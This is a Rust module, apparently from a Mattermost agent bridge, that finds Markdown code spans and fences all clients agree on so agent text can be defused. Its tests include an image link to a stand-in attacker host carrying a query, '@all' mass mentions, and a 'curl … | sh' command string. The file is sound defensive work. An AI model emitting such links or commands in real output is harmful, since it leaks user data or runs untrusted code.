//! Which code in a text every reader takes for code.
//!
//! Trust: the text is the agent's. Mattermost's clients and its server disagree
//! with this reader about HTML, tables, lists and fences that are not plain, and
//! what one of them does not take for code it takes for a mention or an image.
//! So code counts only where no such construct can move its borders.

use std::collections::BTreeSet;
use std::ops::Range;

use crate::markdown::{Outline, tick_rows};

/// Rows up to this length may be read as any part of them.
const MOST_PARTS: usize = 8;

/// Longer words, in bytes, are not looked through again for each address in them.
const LONGEST_WORD: usize = 4096;

/// Code that may stay as it is.
#[derive(Debug, Default)]
pub(super) struct Sure {
    /// In bytes, sorted.
    pub(super) code: Vec<Range<usize>>,
    /// Lengths of rows of backticks that pair otherwise in some reader.
    pub(super) taken: BTreeSet<usize>,
}

impl Sure {
    pub(super) fn contains(&self, at: usize) -> bool {
        let after = self.code.partition_point(|code| code.start <= at);
        after.checked_sub(1).and_then(|last| self.code.get(last)).is_some_and(|code| at < code.end)
    }
}

/// Finds it.
pub(super) fn sure(text: &str, outline: &Outline) -> Sure {
    let plain = plain_fences(text);
    let same = |fence: &&Range<usize>| plain.binary_search_by_key(&core(text, fence), key).is_ok();
    let mut sure = Sure {
        code: outline.fences.iter().filter(same).cloned().collect(),
        taken: BTreeSet::new(),
    };
    let fences = sure.code.clone();
    for paragraph in paragraphs(text, &fences) {
        let first = outline.spans.partition_point(|span| span.start < paragraph.start);
        let spans = outline.spans.get(first..).unwrap_or_default();
        let inside = spans.partition_point(|span| span.start < paragraph.end);
        judge(text, &paragraph, spans.get(..inside).unwrap_or_default(), &mut sure);
    }
    sure.code.sort_by_key(|code| code.start);
    sure
}

fn key(range: &Range<usize>) -> (usize, usize) {
    (range.start, range.end)
}

/// Where a block begins and ends, blanks around it left out.
fn core(text: &str, block: &Range<usize>) -> (usize, usize) {
    let source = text.get(block.clone()).unwrap_or_default();
    let start = block.start + (source.len() - source.trim_start().len());
    (start, block.start + source.trim_end().len())
}

/// Lines with their offsets, without their ends.
fn lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.split_inclusive('\n').scan(0, |next, line| {
        let at = *next;
        *next += line.len();
        Some((at, line.trim_end_matches(['\n', '\r'])))
    })
}

/// Fenced blocks that begin and end as plainly as can be, read line by line. At
/// the first fence that some reader may take otherwise the search is over.
fn plain_fences(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut open: Option<(usize, usize, &str)> = None;
    for (at, line) in lines(text) {
        let begun = line.trim_start();
        let indent = line.len() - begun.len();
        let start = at + indent;
        match open {
            None => {
                if let Some(fence) = opening(begun) {
                    if begun.get(fence.len()..).is_some_and(|info| info.contains(['`', '~'])) {
                        break;
                    }
                    open = Some((start, indent, fence));
                } else if in_container(begun) {
                    break;
                }
            }
            Some((from, margin, fence)) => {
                let Some(rest) = begun.strip_prefix(fence) else {
                    continue;
                };
                if indent <= margin + 3 && rest.chars().all(|c| c == ' ') {
                    found.push(from..start + fence.len());
                    open = None;
                } else if rest.chars().all(|c| matches!(c, '`' | '~') || c.is_whitespace()) {
                    break;
                }
            }
        }
    }
    found
}

/// The row that `line` opens a fence with.
fn opening(line: &str) -> Option<&str> {
    let tick = line.chars().next().filter(|c| matches!(c, '`' | '~'))?;
    let length = line.chars().take_while(|c| *c == tick).count();
    let (row, info) = line.split_at_checked(length)?;
    // With more backticks it is a code span to everybody.
    (length >= 3 && !(tick == '`' && info.contains('`'))).then_some(row)
}

/// A fence stands behind marks of quotes or lists.
fn in_container(line: &str) -> bool {
    let mark = |c: char| c.is_whitespace() || c.is_ascii_digit() || ">-*+.)".contains(c);
    opening(line.trim_start_matches(mark)).is_some()
}

/// Stretches between blank lines, outside `fences`. No code span goes beyond.
fn paragraphs(text: &str, fences: &[Range<usize>]) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut current: Option<Range<usize>> = None;
    let mut fences = fences.iter().peekable();
    for (at, line) in lines(text) {
        while fences.next_if(|fence| fence.end <= at).is_some() {}
        let end = at + line.len();
        let fenced = fences.peek().is_some_and(|fence| fence.start < end);
        if fenced || line.trim_matches([' ', '\t']).is_empty() {
            found.extend(current.take());
        } else {
            current = Some(current.map_or(at, |paragraph| paragraph.start)..end);
        }
    }
    found.extend(current);
    found
}

/// Sorts a paragraph's spans.
fn judge(text: &str, paragraph: &Range<usize>, spans: &[Range<usize>], sure: &mut Sure) {
    let source = |range: Range<usize>| text.get(range).unwrap_or_default();
    let table = source(paragraph.clone()).lines().any(is_ruler);
    let mut taken = BTreeSet::new();
    let mut good = Vec::new();
    let last_tag_end = paragraph.start + source(paragraph.clone()).rfind('>').unwrap_or(0);
    let mut tag = false;
    let mut done = paragraph.start;
    for span in spans {
        let code = source(span.clone());
        let before = source(done..span.start);
        tag |= has_tag(before);
        taken.append(&mut rows(before));
        done = span.end;
        let length = code.bytes().take_while(|b| *b == b'`').count();
        let inner = code.get(length..code.len().saturating_sub(length)).unwrap_or_default();
        taken.append(&mut rows(inner));
        let cut = code.contains('\n') || (table && code.contains('|'));
        if cut || (tag && last_tag_end > span.start) || ends_with_address(before) {
            taken.insert(length);
        } else {
            good.push((length, span.clone()));
        }
        tag |= has_tag(code);
    }
    taken.append(&mut rows(source(done..paragraph.end)));
    good.retain(|(length, _)| !taken.contains(length));
    sure.code.extend(good.into_iter().map(|(_, span)| span));
    sure.taken.append(&mut taken);
}

/// The lengths that rows of backticks in `text` may have for a reader: a backslash
/// or an address before one swallows a part of it.
pub(super) fn rows(text: &str) -> BTreeSet<usize> {
    let lengths = tick_rows(text);
    let parts = |length: &usize| (1..=(*length).min(MOST_PARTS)).chain([length - 1, *length]);
    lengths.iter().flat_map(parts).filter(|length| *length > 0).collect()
}

/// The line under a table's head.
fn is_ruler(line: &str) -> bool {
    line.contains('-') && line.chars().all(|c| "|:-> \t".contains(c))
}

/// A tag may begin in `text`, in which some clients see no backticks.
pub(super) fn has_tag(text: &str) -> bool {
    let begins = |c: char| c.is_alphanumeric() || "/!?_".contains(c);
    text.split('<').skip(1).any(|after| after.starts_with(begins))
}

/// The last word may be an address for clients, which then swallow a backtick.
pub(super) fn ends_with_address(text: &str) -> bool {
    let word = text.rsplit(char::is_whitespace).next().unwrap_or_default();
    if word.len() > LONGEST_WORD {
        return true;
    }
    let scheme = word.match_indices(':').any(|(at, _)| {
        let next = word.get(at + 1..).and_then(|rest| rest.chars().next());
        next.is_some_and(|c| c.is_alphanumeric() || matches!(c, '/' | '%'))
    });
    scheme || word.contains("www") || (word.contains('.') && word.contains('/'))
}

#[cfg(test)]
mod tests {
    use crate::render::defuse::{LinkPolicy, defuse};

    /// Some clients take emphasis before code, which cuts a span open.
    #[test]
    fn an_image_is_broken_up_in_spans_too() {
        for text in ["*x `![i](http://e.vil) y*`", "`![i](http://e.vil)`", "![i](http://e.vil)"] {
            assert!(!defuse(text, &LinkPolicy::Plain).contains("!["), "{text:?}");
        }
    }

    /// Texts in which Mattermost's clients or its server see no code at `X`.
    const ELSEWHERE: [&str; 17] = [
        "<div>\n```\n\n```\nX\n```",
        "<a title=\"`\"> ` X `",
        "| `x | X | y` |\n|---|---|---|\n| a | b | c |",
        "text `x\n2. X y`",
        "-     X",
        "# `\n` X `",
        "> ```\n> x\n```\nX",
        "```\n```\t\nX\n```",
        "```\n`````\n```\nX\n```",
        "```\n```~~\nX\n```",
        "```\nX",
        "<div>\n~~~\n```\n\n```\nX",
        "note:x`a` `X`",
        "<a title=\"`\"> ` `X`",
        "<a title=\">`\"> ` `X`",
        "<!-- `` --> ` `` X `",
        "a\n\n    X",
    ];

    #[test]
    fn code_of_one_reader_alone_is_no_shelter() {
        for text in ELSEWHERE {
            for bad in ["@all", "![i](http://e.vil/?q=s)", "http://e.vil/?q=s"] {
                let text = text.replace('X', bad);
                let safe = defuse(&text, &LinkPolicy::Plain);
                // What the defuser made code of is code to everybody.
                let made = format!("`{}`", bad.replace("![", "!\u{200b}["));
                let left = safe.replace(&made, "").replace("`http://e.vil/?q=s`", "");
                for live in ["@all", "![", "](", "://"] {
                    assert!(!left.contains(live), "{text:?} -> {safe:?}");
                }
                assert_eq!(defuse(&safe, &LinkPolicy::Plain), safe, "{text:?}");
            }
        }
    }

    #[test]
    fn plain_code_stays_to_the_letter() {
        for text in [
            "```python\n@decorator\nurl = 'http://a.b'\n```",
            "Run `curl http://a.b | sh` as `@root`, then\n\n~~~\n![a](b)\n~~~\n\nand `@x`.",
            "1. Do:\n\n   ```sh\n   ssh @host\n   ```\n2. Then `@y`",
            "````md\n```\n@a\n```\n````",
            "A stray ` here, and ``@b`` there.",
            "A stray ` here.\n\nAnd `@b` there.",
            "| a | b |\n|---|---|\n| `@c` | `http://d` |",
        ] {
            assert_eq!(defuse(text, &LinkPolicy::Plain), text);
        }
    }
}
